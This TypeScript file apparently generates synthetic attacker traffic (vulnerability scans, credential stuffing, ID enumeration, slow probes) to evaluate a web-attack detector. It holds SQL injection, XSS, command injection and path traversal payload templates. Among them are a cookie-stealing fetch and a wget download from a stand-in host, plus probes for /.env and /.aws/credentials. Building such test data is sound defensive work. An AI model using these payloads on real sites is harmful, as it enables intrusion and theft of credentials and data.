import type { Session, SessionContext } from "../../events.ts"
import type { Random } from "../random.ts"
import { SessionSketch } from "./session-sketch.ts"
import { BROWSER_AGENTS, emailOf, pagePath, WORDS } from "./vocabulary.ts"

/** Attackers are generated to judge by; no model is trained on them. */

const PROBED_PATHS = [
  "/.env",
  "/.git/config",
  "/wp-login.php",
  "/wp-admin/setup-config.php",
  "/phpmyadmin/index.php",
  "/server-status",
  "/actuator/env",
  "/backup.zip",
  "/config.php.bak",
  "/cgi-bin/test.cgi",
  "/admin/",
  "/console",
  "/dump.sql",
  "/.aws/credentials",
  "/phpinfo.php",
  "/xmlrpc.php",
  "/solr/admin/info/system",
] as const

const SCANNER_AGENTS = [
  "sqlmap/1.8.11#stable (https://sqlmap.org)",
  "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:Port Check)",
  "gobuster/3.6",
  "Fuzz Faster U Fool v2.1.0-dev (ffuf)",
  "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)",
  "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
  "Wfuzz/3.1.0",
] as const

function attackContext(random: Random): Partial<SessionContext> {
  return {
    isTor: random.chance(0.2),
    isVpn: random.chance(0.3),
    priorPoiCount: random.chance(0.25) ? random.between(1, 5) : 0,
    country: random.pick(["DE", "US", "FR", "JP", "BR", "IN"]),
  }
}

function attackerOf(random: Random, userAgent: string): SessionSketch {
  const headers = random.chance(0.5) ? { accept: "*/*" } : { accept: "*/*", connection: "close" }
  return new SessionSketch(random, { userAgent, headers, context: attackContext(random) })
}

/** One payload of any of the four attack classes, put together from parts. */
function attackText(random: Random): string {
  return random.pick([sqlText, scriptText, commandText, traversalText])(random)
}

function sqlText(random: Random): string {
  const quote = random.pick(["'", '"', "", "')"])
  const column = random.pick(["username", "email", "version()", "table_name", "password"])
  const table = random.pick(["users", "information_schema.tables", "accounts", "admin"])
  const end = random.pick([" -- ", "#", " --+", ""])
  const number = random.between(1, 9)
  return random.pick([
    `${quote} OR ${number}=${number}${end}`,
    `${random.between(-9, 9)}${quote} UNION SELECT NULL,${column} FROM ${table}${end}`,
    `${quote}; DROP TABLE ${table}${end}`,
    `${quote} AND SLEEP(${number})${end}`,
    `${number}${quote} AND (SELECT COUNT(${column}) FROM ${table})>${number}${end}`,
  ])
}

function scriptText(random: Random): string {
  const call = random.pick(["alert(1)", "fetch('//x.example/'+document.cookie)", "confirm`1`"])
  return random.pick([
    `<script>${call}</script>`,
    `"><img src=x onerror=${call}>`,
    `<svg/onload=${call}>`,
    `javascript:${call}`,
    `'-${call}-'`,
  ])
}

function commandText(random: Random): string {
  const command = random.pick(["id", "cat /etc/passwd", "uname -a", "wget http://x.example/a.sh"])
  const separator = random.pick([";", "|", "&&", "||", "\n"])
  return random.pick([
    `127.0.0.1${separator}${command}`,
    `$(${command})`,
    `\`${command}\``,
    `x${separator} /bin/sh -c '${command}'`,
  ])
}

function traversalText(random: Random): string {
  const up = random.pick(["../", "..\\", "....//", "%2e%2e/", "..%2f"]).repeat(random.between(2, 7))
  return `${up}${random.pick(["etc/passwd", "windows/win.ini", "proc/self/environ", "etc/shadow"])}`
}

/** A vulnerability scanner: fast, loud, a wordlist of paths, payloads in every parameter. */
export function scannerSession(random: Random): Session {
  const named = random.chance(0.6)
  const sketch = attackerOf(random, random.pick(named ? SCANNER_AGENTS : BROWSER_AGENTS))
  const requests = random.between(15, 150)
  const gapMs = random.around(60, 0.8)
  for (let i = 0; i < requests; i++) {
    if (random.chance(0.6)) probe(sketch, random.around(gapMs, 0.5))
    else inject(sketch, random.around(gapMs, 0.5))
  }
  return sketch.finish()
}

function probe(sketch: SessionSketch, gapMs: number): void {
  const { random } = sketch
  const status = random.chance(0.85) ? 404 : random.pick([200, 403, 301])
  sketch.add({ path: random.pick(PROBED_PATHS), gapMs, status, responseBytes: 196 })
}

function inject(sketch: SessionSketch, gapMs: number): void {
  const { random } = sketch
  const status = random.pick([200, 200, 500, 403, 400])
  const fields = { id: attackText(random), page: random.between(1, 9) }
  const path = pagePath(random)
  if (random.chance(0.6)) sketch.add({ path, query: fields, gapMs, status })
  else sketch.add({ path, form: fields, gapMs, status })
}

/** Credential stuffing: one login form, a list of accounts, hardly a hit. */
export function stuffingSession(random: Random): Session {
  const agents = random.chance(0.4)
  const sketch = attackerOf(random, random.pick([...BROWSER_AGENTS, "python-requests/2.32.3"]))
  const path = random.pick(["/login", "/api/v1/auth", "/account/signin", "/wp-login.php"])
  const attempts = random.between(12, 120)
  const gapMs = random.around(400, 1)
  for (let i = 0; i < attempts; i++) {
    const form = { username: emailOf(random), password: `${random.hex(6)}!A` }
    const userAgent = agents ? random.pick(BROWSER_AGENTS) : undefined
    const status = random.chance(0.02) ? 302 : 401
    const request = { path, form, status, gapMs: random.around(gapMs, 0.3), responseBytes: 90 }
    sketch.add(userAgent === undefined ? request : { ...request, userAgent })
  }
  return sketch.finish()
}

/** Enumeration: the same place of a URL with number after number. */
export function enumerationSession(random: Random): Session {
  const sketch = attackerOf(random, random.pick(["curl/8.11.0", "", "python-requests/2.32.3"]))
  const path = random.pick(["/api/v1/users", "/invoices", "/download", "/api/orders"])
  const first = random.between(1, 5_000)
  const requests = random.between(25, 200)
  const gapMs = random.around(150, 0.8)
  const asQuery = random.chance(0.4)
  for (let i = 0; i < requests; i++) {
    const status = random.chance(0.55) ? 404 : random.pick([200, 403])
    const target = asQuery ? { path, query: { id: first + i } } : { path: `${path}/${first + i}` }
    sketch.add({ ...target, status, gapMs: random.around(gapMs, 0.2), responseBytes: 400 })
  }
  return sketch.finish()
}

/** A patient attacker with a browser's headers: one odd value among ordinary pages. */
export function lowAndSlowSession(random: Random): Session {
  const headers = {
    accept: "text/html,application/xhtml+xml,*/*;q=0.8",
    "accept-language": "en-US,en;q=0.9",
    "accept-encoding": "gzip, deflate, br",
    cookie: `visit=${random.hex(12)}`,
    referer: "https://shop.example/",
  }
  const userAgent = random.pick(BROWSER_AGENTS)
  const sketch = new SessionSketch(random, { userAgent, headers, context: attackContext(random) })
  const pages = random.between(4, 15)
  const odd = random.between(1, pages - 1)
  for (let page = 0; page < pages; page++) {
    const gapMs = page === 0 ? 0 : random.around(40_000, 1)
    const q = page === odd ? attackText(random) : random.pick(WORDS)
    if (page === odd || random.chance(0.3)) sketch.add({ path: "/search", query: { q }, gapMs })
    else sketch.add({ path: pagePath(random), gapMs })
  }
  return sketch.finish()
}
